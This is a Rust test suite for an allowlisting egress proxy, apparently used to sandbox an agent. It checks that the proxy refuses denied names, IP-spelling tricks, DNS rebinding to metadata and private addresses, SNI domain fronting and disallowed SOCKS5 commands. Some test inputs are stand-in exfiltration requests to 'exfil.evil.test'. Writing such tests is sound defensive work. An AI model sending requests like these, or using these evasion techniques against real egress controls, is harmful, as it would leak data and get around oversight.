//! The proxy on loopback: lab servers on 127.0.0.1, a lab resolver that
//! logs every query, and rules whose address rule lets names reach the
//! lab's 127.0.0.1 (nothing else ever would).

use std::collections::HashMap;
use std::sync::Mutex;

use super::*;

struct LabDns {
    names: HashMap<String, Vec<IpAddr>>,
    asked: Mutex<Vec<String>>,
}

impl Resolve for LabDns {
    fn resolve<'a>(
        &'a self,
        name: &'a str,
    ) -> Pin<Box<dyn Future<Output = std::io::Result<Vec<IpAddr>>> + Send + 'a>> {
        self.asked.lock().unwrap().push(name.to_string());
        let r = self.names.get(name).cloned().unwrap_or_default();
        Box::pin(async move { Ok(r) })
    }
}

struct Lab {
    proxy: SocketAddr,
    dns: Arc<LabDns>,
    denied: Arc<Mutex<Vec<Denial>>>,
    /// What the lab server received on each connection.
    received: Arc<Mutex<Vec<Vec<u8>>>>,
    port: u16,
}

/// A lab server that records what it gets and answers "hello".
async fn lab_server(received: Arc<Mutex<Vec<Vec<u8>>>>) -> u16 {
    lab_server_on("127.0.0.1:0", received).await
}

async fn lab_server_on(addr: &str, received: Arc<Mutex<Vec<Vec<u8>>>>) -> u16 {
    let l = TcpListener::bind(addr).await.unwrap();
    let port = l.local_addr().unwrap().port();
    tokio::spawn(async move {
        loop {
            let (mut c, _) = l.accept().await.unwrap();
            let received = received.clone();
            tokio::spawn(async move {
                let mut got = Vec::new();
                let mut buf = [0u8; 4096];
                // Reads until a pause; then answers.
                while let Ok(Ok(n)) =
                    tokio::time::timeout(Duration::from_millis(150), c.read(&mut buf)).await
                {
                    if n == 0 {
                        break;
                    }
                    got.extend_from_slice(&buf[..n]);
                }
                received.lock().unwrap().push(got);
                let _ = c.write_all(b"hello").await;
            });
        }
    });
    port
}

async fn lab(extra_rules: &[&str]) -> Lab {
    let received = Arc::new(Mutex::new(Vec::new()));
    let port = lab_server(received.clone()).await;
    let lo: IpAddr = "127.0.0.1".parse().unwrap();
    let names = HashMap::from([
        ("api.lab.example".to_string(), vec![lo]),
        ("tls.lab.example".to_string(), vec![lo]),
        (
            "rebind.lab.example".to_string(),
            vec!["169.254.169.254".parse().unwrap()],
        ),
        (
            "private.lab.example".to_string(),
            vec!["10.1.2.3".parse().unwrap()],
        ),
        ("evil.lab.example".to_string(), vec![lo]),
    ]);
    let dns = Arc::new(LabDns {
        names,
        asked: Mutex::new(Vec::new()),
    });
    let mut rules = vec![
        format!("api.lab.example:{port}"),
        format!("tls.lab.example:{port}"),
        format!("rebind.lab.example:{port}"),
        format!("private.lab.example:{port}"),
        // The lab lives on loopback, which only an address rule reaches.
        format!("127.0.0.1/32:{port}"),
    ];
    rules.extend(
        extra_rules
            .iter()
            .map(|r| r.replace("PORT", &port.to_string())),
    );
    let denied = Arc::new(Mutex::new(Vec::new()));
    let d = denied.clone();
    let cfg = Arc::new(Config {
        allow: Allowlist::parse(&rules).unwrap(),
        host_addresses: Vec::new,
        resolver: dns.clone(),
        tls_ports: vec![port],
        handshake_timeout: Duration::from_secs(2),
        on_denied: Arc::new(move |x| d.lock().unwrap().push(x)),
        tunnels: Arc::new(tokio::sync::Semaphore::new(MAX_TUNNELS)),
    });
    let l = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let proxy = l.local_addr().unwrap();
    tokio::spawn(serve(l, cfg));
    Lab {
        proxy,
        dns,
        denied,
        received,
        port,
    }
}

/// Sends `CONNECT target`, gives the status line and the stream.
async fn connect(lab: &Lab, target: &str) -> (String, String, TcpStream) {
    let mut s = TcpStream::connect(lab.proxy).await.unwrap();
    s.write_all(format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n").as_bytes())
        .await
        .unwrap();
    let mut head = Vec::new();
    let mut b = [0u8; 1];
    while !head.ends_with(b"\r\n\r\n") {
        if s.read(&mut b).await.unwrap() == 0 {
            break;
        }
        head.push(b[0]);
    }
    let head = String::from_utf8_lossy(&head).into_owned();
    let status = head.lines().next().unwrap_or_default().to_string();
    (status, head, s)
}

async fn read_all(s: &mut TcpStream) -> Vec<u8> {
    let mut out = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(3), s.read_to_end(&mut out)).await;
    out
}

use crate::sni::tests::client_hello;

#[tokio::test]
async fn an_allowed_name_is_tunnelled() {
    let lab = lab(&[]).await;
    let (status, _, mut s) = connect(&lab, &format!("API.Lab.Example.:{}", lab.port)).await;
    // Not a TLS port for this name? It is (tls_ports): send a hello.
    assert!(status.contains(" 200 "), "{status}");
    s.write_all(&client_hello("api.lab.example")).await.unwrap();
    assert_eq!(read_all(&mut s).await, b"hello");
    assert!(lab.denied.lock().unwrap().is_empty());
}

#[tokio::test]
async fn a_denied_name_is_never_looked_up_and_the_refusal_says_what_to_add() {
    let lab = lab(&[]).await;
    for target in [
        "exfil.evil.test:443".to_string(),
        format!("evil.lab.example:{}", lab.port),
        format!("api.lab.example:{}", lab.port + 1),
    ] {
        let (status, head, _) = connect(&lab, &target).await;
        assert!(status.contains(" 403 "), "{target}: {status}");
        assert!(head.contains("X-Agentctl-Denied: "), "{head}");
        assert!(
            head.contains("add \\\"") || head.contains("add \""),
            "{head}"
        );
    }
    let asked = lab.dns.asked.lock().unwrap().clone();
    assert!(
        !asked.iter().any(|n| n.contains("evil")),
        "the resolver was asked for a denied name: {asked:?}"
    );
    assert_eq!(lab.denied.lock().unwrap().len(), 3);
    assert!(lab.received.lock().unwrap().is_empty());
}

#[tokio::test]
async fn addresses_need_an_address_rule_in_every_spelling() {
    let lab = lab(&[]).await;
    let p = lab.port;
    // Covered by 127.0.0.1/32:PORT: the plain and the odd spellings alike.
    for target in [
        format!("127.0.0.1:{p}"),
        format!("2130706433:{p}"),
        format!("0x7f.1:{p}"),
        format!("[::ffff:127.0.0.1]:{p}"),
    ] {
        let (status, _, mut s) = connect(&lab, &target).await;
        assert!(status.contains(" 200 "), "{target}: {status}");
        s.write_all(b"x").await.unwrap();
        assert_eq!(read_all(&mut s).await, b"hello", "{target}");
    }
    for target in [
        format!("127.0.0.2:{p}"),
        format!("[::1]:{p}"),
        format!("10.0.0.1:{p}"),
        format!("169.254.169.254:{p}"),
    ] {
        let (status, _, _) = connect(&lab, &target).await;
        assert!(status.contains(" 403 "), "{target}: {status}");
    }
    for target in [
        "user@api.lab.example:443",
        "api.lab.example",
        "api.lab.example:0",
        "api.lab.example:x",
    ] {
        let (status, _, _) = connect(&lab, target).await;
        assert!(
            status.contains(" 403 ") || status.contains(" 400 "),
            "{target}: {status}"
        );
    }
}

#[tokio::test]
async fn an_allowed_name_that_resolves_to_a_special_address_is_refused() {
    let lab = lab(&[]).await;
    for name in ["rebind.lab.example", "private.lab.example"] {
        let (status, head, _) = connect(&lab, &format!("{name}:{}", lab.port)).await;
        assert!(status.contains(" 403 "), "{name}: {status}");
        assert!(head.contains("resolved to"), "{head}");
    }
}

#[tokio::test]
async fn a_tls_tunnel_must_name_its_server_and_only_the_allowed_one() {
    let lab = lab(&[]).await;
    let target = format!("tls.lab.example:{}", lab.port);
    // The allowed name, its ClientHello split into single bytes on the wire.
    let (status, _, mut s) = connect(&lab, &target).await;
    assert!(status.contains(" 200 "));
    let hello = client_hello("tls.lab.example");
    for b in &hello {
        s.write_all(std::slice::from_ref(b)).await.unwrap();
        s.flush().await.unwrap();
    }
    assert_eq!(read_all(&mut s).await, b"hello");
    assert_eq!(
        lab.received.lock().unwrap().last().unwrap(),
        &hello,
        "replayed whole"
    );
    let before = lab.received.lock().unwrap().len();
    // Another name (domain fronting), no TLS at all, and silence.
    for first in [
        client_hello("evil.lab.example"),
        b"GET / HTTP/1.1\r\nHost: evil\r\n\r\n".to_vec(),
        Vec::new(),
    ] {
        let (status, _, mut s) = connect(&lab, &target).await;
        assert!(status.contains(" 200 "));
        if !first.is_empty() {
            s.write_all(&first).await.unwrap();
        }
        let got = read_all(&mut s).await;
        assert!(got.is_empty(), "the tunnel answered: {got:?}");
    }
    tokio::time::sleep(Duration::from_millis(300)).await;
    // The lab server saw nothing of them: the proxy never sent a byte
    // before the hello was checked (it connects first, then closes).
    let received = lab.received.lock().unwrap();
    assert!(
        received[before..].iter().all(|r| r.is_empty()),
        "{:?}",
        &received[before..]
    );
    assert_eq!(lab.denied.lock().unwrap().len(), 3);
}

#[tokio::test]
async fn plain_http_goes_through_the_same_decision_and_is_rewritten() {
    let lab = lab(&[]).await;
    let mut s = TcpStream::connect(lab.proxy).await.unwrap();
    s.write_all(
        format!(
            "GET http://api.lab.example:{}/simple?x=1 HTTP/1.1\r\nHost: evil.example\r\nProxy-Authorization: Basic c2VjcmV0\r\nAccept: */*\r\n\r\n",
            lab.port
        )
        .as_bytes(),
    )
    .await
    .unwrap();
    assert_eq!(read_all(&mut s).await, b"hello");
    let got = String::from_utf8(lab.received.lock().unwrap().last().unwrap().clone()).unwrap();
    assert!(got.starts_with("GET /simple?x=1 HTTP/1.1\r\n"), "{got}");
    assert!(
        got.contains(&format!("Host: api.lab.example:{}\r\n", lab.port)),
        "{got}"
    );
    assert!(
        !got.contains("evil.example") && !got.contains("c2VjcmV0"),
        "{got}"
    );
    assert!(got.contains("Connection: close\r\n"), "{got}");
    // A denied one: 403, nothing sent.
    let mut s = TcpStream::connect(lab.proxy).await.unwrap();
    s.write_all(b"GET http://exfil.evil.test/?d=secret HTTP/1.1\r\nHost: x\r\n\r\n")
        .await
        .unwrap();
    let answer = String::from_utf8(read_all(&mut s).await).unwrap();
    assert!(answer.starts_with("HTTP/1.1 403 "), "{answer}");
}

#[tokio::test]
async fn a_tool_that_ignores_proxies_reaches_allowed_names_through_the_stubs_address() {
    // The lab server on [::1], so that the transparent listener can hold
    // 0.0.0.0 on the same port (in a sandbox it is another namespace).
    let received = Arc::new(Mutex::new(Vec::new()));
    let port = lab_server_on("[::1]:0", received.clone()).await;
    let allow = Allowlist::parse(&[
        format!("tls.lab.example:{port}"),
        format!("evil.lab.example:{}", port + 1),
        format!("[::1/128]:{port}"),
    ])
    .unwrap();
    let dns = Arc::new(LabDns {
        names: HashMap::from([
            ("tls.lab.example".to_string(), vec!["::1".parse().unwrap()]),
            ("evil.lab.example".to_string(), vec!["::1".parse().unwrap()]),
        ]),
        asked: Mutex::new(Vec::new()),
    });
    let stub = crate::dns::Stub::new(allow.clone());
    // What the stub answered for the names: fake addresses of 127.1/16.
    let fake = stub
        .fakes
        .lock()
        .unwrap()
        .assign("tls.lab.example")
        .unwrap();
    let denied_fake = stub
        .fakes
        .lock()
        .unwrap()
        .assign("evil.lab.example")
        .unwrap();
    let fakes = Arc::new(std::sync::Mutex::new(std::mem::take(
        &mut *stub.fakes.lock().unwrap(),
    )));
    let denied = Arc::new(Mutex::new(Vec::new()));
    let d = denied.clone();
    let cfg = Arc::new(Config {
        allow,
        host_addresses: Vec::new,
        resolver: dns.clone(),
        tls_ports: vec![port],
        handshake_timeout: Duration::from_secs(2),
        on_denied: Arc::new(move |x| d.lock().unwrap().push(x)),
        tunnels: Arc::new(tokio::sync::Semaphore::new(MAX_TUNNELS)),
    });
    let l = TcpListener::bind(("0.0.0.0", port)).await.unwrap();
    tokio::spawn(serve_transparent(l, cfg, fakes));
    let mut s = TcpStream::connect((fake, port)).await.unwrap();
    let hello = client_hello("tls.lab.example");
    s.write_all(&hello).await.unwrap();
    assert_eq!(read_all(&mut s).await, b"hello");
    assert_eq!(received.lock().unwrap().last().unwrap(), &hello);
    // A name allowed on another port only, and an address the stub never
    // gave: closed, never looked up.
    for ip in [denied_fake, "127.1.200.200".parse().unwrap()] {
        let mut s = TcpStream::connect((ip, port)).await.unwrap();
        let _ = s.write_all(&client_hello("tls.lab.example")).await;
        assert!(read_all(&mut s).await.is_empty(), "{ip}");
    }
    assert_eq!(
        denied.lock().unwrap().len(),
        2,
        "{:?}",
        denied.lock().unwrap()
    );
    assert_eq!(dns.asked.lock().unwrap().as_slice(), ["tls.lab.example"]);
}

#[tokio::test]
async fn socks5_connects_by_the_same_rules_and_nothing_else() {
    let lab = lab(&[]).await;
    let cfg = Arc::new(Config {
        allow: Allowlist::parse(&[
            format!("tls.lab.example:{}", lab.port),
            format!("127.0.0.1/32:{}", lab.port),
        ])
        .unwrap(),
        host_addresses: Vec::new,
        resolver: lab.dns.clone(),
        tls_ports: vec![],
        handshake_timeout: Duration::from_secs(2),
        on_denied: Arc::new(|_| {}),
        tunnels: Arc::new(tokio::sync::Semaphore::new(MAX_TUNNELS)),
    });
    let l = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = l.local_addr().unwrap();
    tokio::spawn(serve_socks(l, cfg));
    // greeting, then CONNECT with a domain, an IPv4, a denied domain, and
    // UDP ASSOCIATE; the reply's second byte is the verdict.
    let port = lab.port.to_be_bytes();
    let domain = |name: &str, cmd: u8| {
        let mut r = vec![5, cmd, 0, 3, name.len() as u8];
        r.extend(name.as_bytes());
        r.extend(port);
        r
    };
    for (req, want) in [
        (domain("tls.lab.example", 1), 0u8),
        (vec![5, 1, 0, 1, 127, 0, 0, 1, port[0], port[1]], 0),
        (domain("evil.lab.example", 1), 2),
        (vec![5, 1, 0, 1, 127, 0, 0, 2, port[0], port[1]], 2),
        (domain("tls.lab.example", 3), 7),
        (domain("tls.lab.example", 2), 7),
    ] {
        let mut s = TcpStream::connect(addr).await.unwrap();
        s.write_all(&[5, 1, 0]).await.unwrap();
        let mut m = [0u8; 2];
        s.read_exact(&mut m).await.unwrap();
        assert_eq!(m, [5, 0]);
        s.write_all(&req).await.unwrap();
        let mut reply = [0u8; 10];
        s.read_exact(&mut reply).await.unwrap();
        assert_eq!(reply[1], want, "{req:?}");
        if want == 0 {
            s.write_all(b"x").await.unwrap();
            assert_eq!(read_all(&mut s).await, b"hello");
        }
    }
    // A client that offers only username/password: no acceptable method.
    let mut s = TcpStream::connect(addr).await.unwrap();
    s.write_all(&[5, 1, 2]).await.unwrap();
    let mut m = [0u8; 2];
    s.read_exact(&mut m).await.unwrap();
    assert_eq!(m, [5, 0xff]);
}

#[tokio::test]
async fn connections_past_the_cap_are_closed_and_refused_on_record() {
    let denied = Arc::new(Mutex::new(Vec::new()));
    let d = denied.clone();
    let cfg = Arc::new(Config {
        allow: Allowlist::parse(&["tls.lab.example"]).unwrap(),
        host_addresses: Vec::new,
        resolver: Arc::new(SystemResolver),
        tls_ports: vec![443],
        handshake_timeout: Duration::from_secs(30),
        on_denied: Arc::new(move |x| d.lock().unwrap().push(x)),
        tunnels: Arc::new(tokio::sync::Semaphore::new(2)),
    });
    let l = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = l.local_addr().unwrap();
    tokio::spawn(serve(l, cfg));
    // Two connections that say nothing hold both places.
    let _a = TcpStream::connect(addr).await.unwrap();
    let _b = TcpStream::connect(addr).await.unwrap();
    tokio::time::sleep(Duration::from_millis(100)).await;
    let mut c = TcpStream::connect(addr).await.unwrap();
    let mut buf = [0u8; 16];
    let n = tokio::time::timeout(Duration::from_secs(5), c.read(&mut buf))
        .await
        .expect("the third connection is closed at once")
        .unwrap_or(0);
    assert_eq!(n, 0);
    let d = denied.lock().unwrap().clone();
    assert_eq!(d.len(), 1, "{d:?}");
    assert!(d[0].reason.contains("connections open at once"), "{d:?}");
    // A place freed is a place taken again.
    drop(_a);
    tokio::time::sleep(Duration::from_millis(100)).await;
    let mut e = TcpStream::connect(addr).await.unwrap();
    e.write_all(b"CONNECT evil.example:443 HTTP/1.1\r\n\r\n")
        .await
        .unwrap();
    let mut line = [0u8; 12];
    e.read_exact(&mut line).await.unwrap();
    assert_eq!(&line, b"HTTP/1.1 403");
}
